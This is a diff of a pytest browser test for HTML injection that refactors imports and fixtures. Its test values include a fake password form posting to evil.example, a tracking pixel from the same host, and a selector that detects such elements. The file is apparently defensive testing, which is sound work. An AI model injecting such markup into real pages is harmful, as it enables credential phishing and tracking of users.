@@ -8,8 +8,9 @@ from urllib.parse import quote, urlsplit
 
 import pytest
 
-from page_watch import wait_quiet, wait_toast, watch
-from test_browser import TIMEOUT_MS
+from helpers.page import TIMEOUT_MS, wait_quiet, wait_toast, watch
+
+pytestmark = pytest.mark.browser
 
 FORM = "<form action=//evil.example><input name=p type=password placeholder=Password>"
 PIXEL = "<img src=https://evil.example/pixel.png>"
@@ -19,11 +20,6 @@ LINKS = [("seed", FORM), ("model", PIXEL), ("model", LOGIN)]
 # Whether any element the values describe exists in the page.
 INJECTED_JS = """() => Boolean(document.querySelector(
   'input[type=password], img[src*="evil.example"], a[href*="evil.example"], form[action*="evil.example"]'))"""
-
-
-@pytest.fixture(scope="module")
-def browser(chromium):
-    return chromium
 
 
 @pytest.mark.parametrize("key,value", LINKS, ids=["form", "pixel", "login"])
